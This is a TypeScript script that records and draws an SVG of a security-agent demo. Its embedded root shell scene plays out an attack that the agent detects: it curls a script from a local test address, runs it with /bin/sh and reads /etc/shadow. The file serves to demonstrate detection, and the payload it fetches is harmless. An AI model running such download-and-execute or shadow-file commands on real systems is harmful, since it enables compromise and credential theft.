/* Draws docs/demo.svg from docs/demo.txt, the recorded output of a real run of the demo.
 *
 *   node dist/scripts/demo-picture.js --record     runs the demo as root, and records it again. Do this on an
 *                                                  otherwise idle machine, since every started program is recorded
 *
 * `npm run docs` draws the picture; `npm run docs -- --check` fails when picture and recording differ.
 */

import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { parseArgs } from 'node:util';
import type { DocumentGenerator } from './documents.ts';

const TOP = fileURLToPath(new URL('../../', import.meta.url));
const RECORDING = `${TOP}docs/demo.txt`;

/**
 * Commands that run on the device during the demo: a user downloads a script, runs it, and reads the shadow file. The device
 * is this machine with another host name. It has no network of its own, since the process connector serves the first one only.
 */
const SCENE = `
hostname gateway7
ip address add 203.0.113.9/32 dev lo
trap 'kill $(jobs -p); ip address del 203.0.113.9/32 dev lo' EXIT
for folder in /opt /tmp /run/sshd; do mkdir -p $folder && mount -t tmpfs -o mode=0755 none $folder; done
mkdir /opt/vakt /tmp/www
mount --bind ${TOP} /opt/vakt
ssh-keygen -q -t ed25519 -N '' -f /run/sshd/key
/usr/sbin/sshd -D -o UsePAM=no -h /run/sshd/key &
echo 'echo hello' > /tmp/www/update.sh
busybox httpd -f -p 203.0.113.9:80 -h /tmp/www &
cd /opt/vakt
act() {
  until grep -q 'The agent is running' /tmp/demo; do sleep 1; done
  sleep 3
  curl -s -o /tmp/update.sh http://203.0.113.9/update.sh
  /bin/sh /tmp/update.sh
  cat /etc/shadow
}
act >/dev/null 2>&1 &
flags=$(head -1 dist/src/main.js | tr ' ' '\\n' | grep -e '^--')
node $flags dist/src/main.js demo --duration PT30S >/tmp/demo
cat /tmp/demo
`;

interface Shown {
  /** Selects the first line of the recording that contains this. */
  readonly line: RegExp;
  /** Removed from the line. */
  readonly without?: RegExp;
}

/** The lines of the recording that the picture shows. */
const STORY: readonly Shown[] = [
  { line: /A local IoT Hub listens/, without: / over TLS.*/ },
  { line: /to see it in a browser/ },
  { line: /Connected to the hub/, without: / part=.*/ },
  { line: /The agent is running/ },
  { line: /received a High message/ },
  { line: /0\.0\.0\.0 port 22 / },
  { line: /FirewallConfiguration {2}/ },
  { line: /SystemInformation {2}/ },
  { line: /a command that looks like a reverse shell/, without: /: the agent raises an alert\./ },
  { line: /SecurityAlert .*ReverseShell/ },
  { line: /ran curl/ },
  { line: /curl connected/ },
  { line: /ran \/bin\/sh \/tmp/ },
  { line: /File downloaded and then executed/ },
  { line: /ran cat/ },
  { line: /Changing a desired property/, without: /; from now.*/ },
  { line: /aggregationEnabledProcessCreate\.value = false/, without: /ms_iotn:urn_azureiot_Security_(?=Security)/ },
  { line: /OSBaseline {2}/ },
  { line: / collected = / },
];

export const demoPicture: DocumentGenerator = {
  path: 'docs/demo.svg',
  generate: () => draw(story(readFileSync(RECORDING, 'utf8').split('\n'))),
};

/** @throws {Error} when the recording lacks one of these lines */
export function story(recording: readonly string[]): string[] {
  const named = withNames(recording);
  const chosen = STORY.map(({ line, without = /$^/ }) => {
    const at = named.findIndex((text) => line.test(text));
    if (at === -1) throw new Error(`docs/demo.txt has no line like ${line}`);
    return { at, text: (named[at] ?? '').replace(without, '') };
  });
  return chosen.sort((a, b) => a.at - b.at).map(({ text }) => text);
}

/** In the output, only the first element of an event is preceded by its name; here all are. */
function withNames(recording: readonly string[]): string[] {
  let name = '';
  return recording.map((line) => {
    const [, time = '', content = ''] = /^(.{9} {10})(.{24}.*)$/.exec(line) ?? [];
    const own = /^\w+ */.exec(content.slice(0, 24))?.[0];
    if (own !== undefined) name = own.trim();
    return time === '' || own !== undefined ? line : `${time}${name.padEnd(24)}${content.slice(24)}`;
  });
}

/** Width of a character, in units of the picture. Text is scaled to it, since fonts differ. */
const WIDTH = 7.8;
const LINE_HEIGHT = 20;
const COLUMNS = 106;
const MARGIN = 20;
const BAR = 34;

const STYLE = `
    svg { --back: #f6f8fa; --bar: #e4e8ec; --edge: #d0d7de; --text: #1f2328; --dim: #59636e; --who: #0550ae; --event: #8250df; --good: #116329 }
    @media (prefers-color-scheme: dark) {
      svg { --back: #161b22; --bar: #21262d; --edge: #3d444d; --text: #e6edf3; --dim: #9198a1; --who: #79c0ff; --event: #d2a8ff; --good: #7ee787 }
    }
    text { font: 13px ui-monospace, SFMono-Regular, Menlo, Consolas, 'DejaVu Sans Mono', monospace; fill: var(--text); white-space: pre }
    .dim { fill: var(--dim) } .who { fill: var(--who) } .event { fill: var(--event) } .good { fill: var(--good); font-weight: bold }`;

type Style = 'text' | 'dim' | 'who' | 'event' | 'good';

/** Draws a terminal, light or dark by the reader's system setting. */
export function draw(lines: readonly string[]): string {
  const width = Math.ceil(COLUMNS * WIDTH) + 2 * MARGIN;
  const rows = [`<g>${span(0, 'dim', '$ ')}${span(2, 'text', 'npm run demo')}</g>`, ...lines.map(row)];
  const height = BAR + MARGIN + rows.length * LINE_HEIGHT + 8;
  const dots = [0, 1, 2].map((n) => `<circle cx="${MARGIN + n * 18}" cy="${BAR / 2}" r="5.5" fill="var(--edge)"/>`);
  const placed = rows.map(
    (text, index) => `  <g transform="translate(${MARGIN} ${BAR + MARGIN + index * LINE_HEIGHT + 5})">${text}</g>`,
  );
  return `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ${width} ${height}" width="${width}" height="${height}" role="img" aria-labelledby="title">
  <!-- Drawn by \`npm run docs\` from demo.txt, the recorded output of a real run; changes made here are lost. -->
  <title id="title">The demo in a terminal: the agent connects to a local hub, which receives what happens on the device</title>
  <style>${STYLE}
  </style>
  <rect x="0.5" y="0.5" width="${width - 1}" height="${height - 1}" rx="8" fill="var(--back)" stroke="var(--edge)"/>
  <path d="M1 ${BAR}V8a7 7 0 0 1 7-7H${width - 8}a7 7 0 0 1 7 7V${BAR}Z" fill="var(--bar)"/>
  ${dots.join('')}
${placed.join('\n')}
</svg>
`;
}

/** A line of src/emulator/commands/demo.ts: time, sender, text. */
const LINE = /^ *[\d.]+ s {2}(.{9}) (.*)$/;

/** Omits the time, which differs between machines. */
function row(line: string): string {
  const [, who = '', content = ''] = LINE.exec(line) ?? fail(`docs/demo.txt has a line of another form: ${line}`);
  const [, event = '', rest = content] = who.trim() === '' ? (/^(\w+ +| +)(.*)$/.exec(content) ?? []) : [];
  const style: Style = who.startsWith('status') ? 'good' : who.startsWith('demo') ? 'dim' : 'text';
  const from = who.length + 1 + event.length;
  const room = COLUMNS - from;
  const shown = rest.length > room ? `${rest.slice(0, room - 1)}…` : rest;
  return span(0, 'who', who.trimEnd()) + span(who.length + 1, 'event', event.trimEnd()) + span(from, style, shown);
}

function span(column: number, style: Style, text: string): string {
  if (text === '') return '';
  const escaped = text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');
  const place = `x="${(column * WIDTH).toFixed(1)}" textLength="${(text.length * WIDTH).toFixed(1)}"`;
  return `<text ${place} class="${style}" xml:space="preserve">${escaped}</text>`;
}

function fail(why: string): never {
  throw new Error(why);
}

/** The token in the page's address is worth nothing any more, but looks like a secret. */
const withoutToken = (recording: string): string => recording.replace(/(Open http:\S+#)\S+/, '$1…');

function main(): void {
  const { record } = parseArgs({ options: { record: { type: 'boolean', default: false } } }).values;
  if (!record) throw new Error('Use --record; the picture is drawn by: npm run docs');
  const { stdout, stderr, status } = spawnSync('unshare', ['--uts', '--mount', 'bash', '-c', SCENE], {
    encoding: 'utf8',
  });
  if (status !== 0 && stdout === '') throw new Error(stderr);
  if (stdout.includes('event loop was blocked')) throw new Error('Record on an idle machine: the agent had to wait.');
  writeFileSync(RECORDING, withoutToken(stdout));
}

if (process.argv[1] === fileURLToPath(import.meta.url)) main();
